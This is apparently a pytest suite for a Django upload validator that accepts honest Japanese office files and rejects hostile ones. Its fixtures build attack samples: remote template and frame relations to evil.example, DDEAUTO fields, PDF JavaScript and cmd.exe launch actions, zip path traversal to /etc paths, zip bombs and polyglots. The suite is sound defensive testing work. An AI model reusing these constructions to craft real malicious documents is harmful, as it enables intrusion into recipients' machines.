"""What is taken in and what is turned down, with the reason a person reads."""

from __future__ import annotations

import hashlib
import io
import zipfile

import pytest
from django.core.exceptions import ValidationError

from documents.enums import FileFormat
from documents.files import DOCUMENT_FORMATS, MAX_BYTES, NAME_LENGTH, OFFICE_FORMATS, check_upload, clean_name
from documents.files.packages import MAX_MEMBERS, MAX_UNPACKED_XML
from tests.documents.makers import MACRO_WORD, docx, package, pdf, upload, with_flags, word_xml, xlsx

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
TYPES = "[Content_Types].xml"
REMOTE = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1"'
    ' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
    ' Target="https://evil.example/a.dotm" TargetMode="External"/></Relationships>'
)


def refusal(name: str, content: bytes, **options) -> ValidationError:
    with pytest.raises(ValidationError) as caught:
        check_upload(upload(name, content), **options)
    return caught.value


@pytest.mark.parametrize(
    ("name", "content", "kind"),
    [
        ("仕様書.docx", docx("本文"), FileFormat.DOCX),
        ("評価基準.XLSX", xlsx(), FileFormat.XLSX),
        ("要綱.pdf", pdf(), FileFormat.PDF),
        ("特記事項.txt", "個人情報の保護\r\n第1条".encode(), FileFormat.TXT),
        ("特記事項.md", "\ufeff# 見出し\n本文".encode(), FileFormat.MD),
        ("一覧.csv", "項目,配点\n".encode("cp932"), FileFormat.CSV),
    ],
    ids=["docx", "xlsx", "pdf", "txt", "md", "csv"],
)
def test_honest_files_pass(name, content, kind):
    checked = check_upload(upload(name, content))
    assert (checked.format, checked.size) == (kind, len(content))
    assert checked.sha256 == hashlib.sha256(content).hexdigest()
    assert checked.file.read() == content


def test_japanese_windows_text_is_said():
    assert "Shift_JIS" in check_upload(upload("a.txt", "仕様書".encode("cp932"))).remark
    assert check_upload(upload("a.txt", "仕様書".encode())).remark == ""


def relisted(parts) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts:
            archive.writestr(name, content)
    return out.getvalue()


def pdf_in_first_member() -> bytes:
    """Both a zip and a PDF: the first member is stored, and readers of PDF look for the header further down."""
    out = io.BytesIO(package())
    with zipfile.ZipFile(out) as source, zipfile.ZipFile(other := io.BytesIO(), "w") as archive:
        archive.writestr("a", pdf())
        for name in source.namelist():
            archive.writestr(name, source.read(name))
    return other.getvalue()


def overlapping() -> bytes:
    """The list of members names the same packed bytes many times, as bombs without recursion do."""
    content = relisted([("word/media/a.bin", b"\0" * 900_000)])
    entry_at = content.index(b"PK\x01\x02")
    end_at = content.index(b"PK\x05\x06")
    entry = content[entry_at:end_at]
    entries = [entry.replace(b"word/media/a.bin", b"word/media/%.5d" % number) for number in range(150)]
    end = bytearray(content[end_at:])
    listed = b"".join(entries)
    end[8:12] = len(entries).to_bytes(2, "little") * 2
    end[12:16] = len(listed).to_bytes(4, "little")
    return content[:entry_at] + listed + bytes(end)


def related(kind: str, target: str, mode: str = "Internal") -> bytes:
    """A docx with one relation of this kind."""
    relation = REMOTE.replace("attachedTemplate", kind).replace("https://evil.example/a.dotm", target)
    return package({"word/_rels/document.xml.rels": relation.replace("External", mode)})


def into(content: bytes, parts: dict[str, bytes | str]) -> bytes:
    """A package with further parts."""
    out = io.BytesIO(content)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        for name, part in parts.items():
            archive.writestr(name, part)
    return out.getvalue()


HOSTILE = {
    "empty": ("a.docx", b"", "empty"),
    "only blanks": ("a.txt", "\ufeff \u3000\u200b\n".encode(), "empty"),
    "legacy word": ("a.doc", OLE, "format"),
    "legacy excel": ("a.xls", OLE, "format"),
    "macro word": ("a.docm", package(main=MACRO_WORD), "format"),
    "an unknown ending": ("a.exe", b"MZ", "format"),
    "no ending": ("docx", docx(), "format"),
    "two endings": ("仕様書.docx.exe", docx(), "format"),
    "disguised by direction": ("見積\u202excod.exe", docx(), "format"),
    "macro word renamed": ("a.docx", package(main=MACRO_WORD), "macros"),
    "macro part": ("a.docx", package({"word/vbaProject.bin": b"x"}), "macros"),
    "macro sheet": ("a.docx", package({"xl/macrosheets/sheet1.xml": b"<a/>"}), "macros"),
    "active control": ("a.docx", package({"word/activeX/activeX1.xml": b"<a/>"}), "macros"),
    "program inside": ("a.docx", package({"word/embeddings/setup.exe": b"MZ"}), "macros"),
    "ole object": ("a.docx", package({"word/embeddings/oleObject1.bin": OLE}), "embedded"),
    "ole object under another name": ("a.docx", package({"word/media/image1.png": OLE}), "embedded"),
    "ole object by its relation": ("a.docx", related("oleObject", "x/a.xml"), "embedded"),
    "ole object in a book": ("a.xlsx", into(xlsx(), {"xl/embeddings/oleObject1.bin": OLE}), "embedded"),
    "word in word": ("a.docx", package({"word/embeddings/Document1.docx": docx()}), "embedded"),
    "zip as a picture": ("a.docx", package({"word/media/image1.jpeg": docx()}), "embedded"),
    "program as a picture": ("a.docx", package({"word/media/image1.jpeg": b"MZ\x90"}), "embedded"),
    "book embedded by relation": ("a.docx", related("package", "a.xml"), "embedded"),
    "control by relation": ("a.docx", related("control", "a.xml"), "embedded"),
    "page of another kind": ("a.docx", related("aFChunk", "a.xml"), "embedded"),
    "picture from elsewhere": ("a.docx", related("image", "https://evil.example/a.png", "External"), "fetched"),
    "object from elsewhere": ("a.docx", related("oleObject", "https://evil.example/a", "External"), "embedded"),
    "frame from elsewhere": ("a.docx", related("frame", "https://evil.example/a", "External"), "fetched"),
    "chapter from elsewhere": ("a.docx", related("subDocument", "\\\\evil\\a.docx", "External"), "fetched"),
    "something else from elsewhere": ("a.docx", related("novelty", "https://evil.example/a", " external "), "fetched"),
    "strict template": (
        "a.docx",
        package({"word/_rels/s.xml.rels": REMOTE.replace("schemas.openxmlformats.org", "purl.oclc.org")}),
        "remote",
    ),
    "dde field": (
        "a.docx",
        package({"word/document.xml": word_xml("<w:p><w:r><w:instrText>DDEAUTO c:\\\\calc</w:instrText></w:r></w:p>")}),
        "dde",
    ),
    "dde field over runs": (
        "a.docx",
        package({"word/header1.xml": word_xml("<w:instrText>DD</w:instrText><w:instrText>E x</w:instrText>")}),
        "dde",
    ),
    "simple dde field": ("a.docx", package({"word/document.xml": word_xml('<w:fldSimple w:instr="DDE x"/>')}), "dde"),
    "dde in a book": ("a.xlsx", into(xlsx(), {"xl/externalLinks/externalLink1.xml": "<a><ddeLink/></a>"}), "dde"),
    "ichitaro": ("仕様書.jtd", OLE, "format"),
    "powerpoint": ("a.ppt", OLE, "format"),
    "script in a pdf": ("a.pdf", pdf(b"3 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj\n"), "active"),
    "script in a pdf, disguised": ("a.pdf", pdf(b"3 0 obj << /S /J#61vaScript >> endobj\n"), "active"),
    "program started by a pdf": ("a.pdf", pdf(b"3 0 obj << /S /Launch /F (cmd.exe) >> endobj\n"), "active"),
    "file in a pdf": ("a.pdf", pdf(b"3 0 obj << /Type /EmbeddedFile >> endobj\n"), "active"),
    "template from elsewhere": ("a.docx", package({"word/_rels/settings.xml.rels": REMOTE}), "remote"),
    "template in another settings part": ("a.docx", package({"word/_rels/odd.xml.rels": REMOTE}), "remote"),
    "template by hidden letters": (
        "a.docx",
        package({"word/_rels/settings.xml.rels": REMOTE.replace("https:", "&#104;ttps:")}),
        "remote",
    ),
    "template of a hidden kind": (
        "a.docx",
        package({"word/_rels/settings.xml.rels": REMOTE.replace("attached", "&#97;ttached")}),
        "remote",
    ),
    "template on another machine": (
        "a.docx",
        package({"word/_rels/settings.xml.rels": REMOTE.replace("https://evil.example/", "file://///evil.example/a/")}),
        "remote",
    ),
    "relations in another code": (
        "a.docx",
        package({"word/_rels/settings.xml.rels": REMOTE.encode("utf-16")}),
        "relations",
    ),
    "word named excel": ("a.xlsx", docx(), "disguised"),
    "excel named word": ("a.docx", xlsx(), "disguised"),
    "any zip": ("a.docx", relisted([("a.txt", "text")]), "disguised"),
    "text named word": ("a.docx", b"hello", "disguised"),
    "encrypted office": ("a.docx", OLE, "encrypted"),
    "encrypted members": ("a.docx", with_flags(package(), 1), "encrypted"),
    "truncated word": ("a.docx", docx()[:-200], "broken"),
    "cut in half": ("a.docx", docx()[:5000], "broken"),
    "path upwards": ("a.docx", package({"../../etc/cron.d/x": b"x"}), "names"),
    "absolute path": ("a.docx", package({"/etc/passwd": b"x"}), "names"),
    "path with a drive": ("a.docx", package({"C:/x": b"x"}), "names"),
    "path with a backslash": ("a.docx", package({"word\\..\\x": b"x"}), "names"),
    "two members of one name": ("a.docx", package({"WORD/document.xml": b"<a/>"}), "names"),
    "many members": ("a.docx", package({f"word/{n}.bin": b"" for n in range(MAX_MEMBERS)}), "members"),
    "bomb by ratio": ("a.docx", package({"word/media/image1.bin": b"\0" * 30_000_000}), "bomb"),
    "bomb by xml": (
        "a.docx",
        package({f"word/part{n}.xml": b"<a>" + bytes(range(32, 127)) * 80_000 for n in range(10)}),
        "bomb",
    ),
    "bomb by overlap": ("a.docx", overlapping(), "bomb"),
    "entities in the list": (
        "a.docx",
        package(
            types=f'<!DOCTYPE a [<!ENTITY b "macroEnabled">]><Types><Override ContentType="{MACRO_WORD}"/></Types>'
        ),
        "content_types",
    ),
    "hidden letters in the list": (
        "a.docx",
        package(types='<Types><Override PartName="/a" ContentType="macro&#69;nabled"/></Types>'),
        "content_types",
    ),
    "list in another code": (
        "a.docx",
        relisted([(TYPES, '<?xml version="1.0" encoding="UTF-16"?><Types/>'.encode("utf-16"))]),
        "content_types",
    ),
    "a comment behind the zip": ("a.docx", package()[:-2] + b"\x04\x00evil", "polyglot"),
    "a script behind the zip": ("a.docx", package() + b"<script>alert(1)</script>", "polyglot"),
    "pdf at the start of a zip": ("a.docx", pdf_in_first_member(), "polyglot"),
    "pdf before a zip": ("a.docx", pdf() + package(), "disguised"),
    "zip behind a pdf": ("a.pdf", pdf() + package(), "polyglot"),
    "other data behind a pdf": ("a.pdf", pdf() + b"x" * 2000, "truncated"),
    "small zip behind a pdf": ("a.pdf", pdf() + relisted([("a", "b")]), "polyglot"),
    "truncated pdf": ("a.pdf", pdf()[:-30], "truncated"),
    "garbage named pdf": ("a.pdf", b"\x89PNG\r\n", "disguised"),
    "pdf after junk": ("a.pdf", b"junk" + pdf(), "disguised"),
    "header and end alone": ("a.pdf", b"%PDF-1.7\n%%EOF", "structure"),
    "encrypted pdf": ("a.pdf", pdf(trailer=b"/Encrypt 5 0 R "), "encrypted"),
    "encrypted pdf, inline": ("a.pdf", pdf(trailer=b"/Encrypt << /V 4 >> "), "encrypted"),
    "text with a nul": ("a.txt", b"abc\x00def", "binary"),
    "picture named text": ("a.md", b"\x89PNG\r\n\x1a\n\x00\x00", "binary"),
    "pdf named text": ("a.txt", b"%PDF-1.4 text", "disguised"),
    "text of two bytes": ("a.txt", "仕様書".encode("utf-16"), "encoding"),
    "no text in any code": ("a.txt", b"\x81\xff\xfe\x80" * 3, "encoding"),
}


@pytest.mark.parametrize("case", HOSTILE)
def test_hostile_files_are_turned_down(case):
    name, content, code = HOSTILE[case]
    error = refusal(name, content)
    assert (error.code, case) == (code, case)
    assert error.message.endswith("。")


def test_the_template_of_the_own_machine_stays():
    """Word writes its path into every file made from it; links to pages elsewhere are no templates."""
    own = REMOTE.replace("https://evil.example/a.dotm", "file:///C:\\Users\\a\\Normal.dotm")
    link = REMOTE.replace("attachedTemplate", "hyperlink").replace("a.dotm", "?a=1&amp;b=2")
    content = package({"word/_rels/settings.xml.rels": own, "word/_rels/document.xml.rels": link})
    assert check_upload(upload("a.docx", content)).format == FileFormat.DOCX


def test_sizes():
    assert refusal("a.pdf", b"x" * (MAX_BYTES + 1)).code == "too_large"
    assert "1MB" in refusal("a.pdf", b"x" * (1024 * 1024 + 1), max_bytes=1024 * 1024).message
    assert refusal("a.txt", b"x" * (5 * 1024 * 1024 + 1)).code == "too_large"


def test_only_what_is_allowed():
    assert refusal("a.txt", b"text", allowed=OFFICE_FORMATS).message == (
        "この種類のファイルは扱えません。.docx、.xlsx、.pdf のいずれかを選んでください。"
    )
    assert check_upload(upload("a.csv", b"a,b"), allowed=DOCUMENT_FORMATS).format == FileFormat.CSV
    assert "Word文書 (*.docx)" in refusal("a.doc", OLE).message


def test_xml_within_the_caps_passes_to_the_limited_reader():
    """What only a parser finds out is the worker's matter: the size alone is held here."""
    body = "".join(f"<w:p><w:r><w:t>{n}</w:t></w:r></w:p>" for n in range(200_000))
    content = package({"word/document.xml": word_xml(body)})
    assert len(body) < MAX_UNPACKED_XML
    assert check_upload(upload("a.docx", content)).format == FileFormat.DOCX


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("仕様書.docx", "仕様書.docx"),
        ("C:\\Users\\me\\仕様書.docx", "仕様書.docx"),
        ("../../etc/仕様書.docx", "仕様書.docx"),
        ("見積\u202exdocx.docx", "見積xdocx.docx"),
        ("か\u3099き.docx", "がき.docx"),
        ("a\x00b\r\nc.docx", "abc.docx"),
        ("\u200b\u2066.docx", "名称なし.docx"),
        ('a"b<c>|?*.docx', "a_b_c____.docx"),
        (" 先頭と末尾 . .docx ", "先頭と末尾.docx"),
        ("あ" * 400 + ".docx", "あ" * (NAME_LENGTH - 5) + ".docx"),
        ("名前" + "\ud800" + ".docx", "名前.docx"),
    ],
)
def test_names(given, kept):
    assert clean_name(given) == kept
    assert len(clean_name(given)) <= NAME_LENGTH


def test_references_to_other_books_are_told():
    link = REMOTE.replace("attachedTemplate", "externalLinkPath").replace("https://evil.example/a.dotm", "../積算.xlsx")
    content = into(xlsx(), {"xl/externalLinks/_rels/externalLink1.xml.rels": link})
    assert "ほかのブックへの参照" in check_upload(upload("a.xlsx", content)).remark


@pytest.mark.parametrize(
    ("name", "words"),
    [
        ("a.doc", "「Word文書 (*.docx)」"),
        ("a.xls", "「Excelブック (*.xlsx)」"),
        ("a.ppt", "PDFに書き出して"),
        ("a.jtd", "「Word文書 (*.docx)」"),
        ("a.xdw", "PDFに書き出して"),
    ],
)
def test_how_an_old_format_is_saved_anew_is_told(name, words):
    assert words in refusal(name, OLE).message


def test_pictures_and_links_are_honest():
    picture = package({"word/media/image1.png": b"\x89PNG\r\n\x1a\n", "word/media/image2.emf": b"\x01\x00\x00\x00"})
    assert check_upload(upload("a.docx", picture)).remark == ""
    assert check_upload(upload("a.docx", related("hyperlink", "https://example.lg.jp/", "External"))).remark == ""
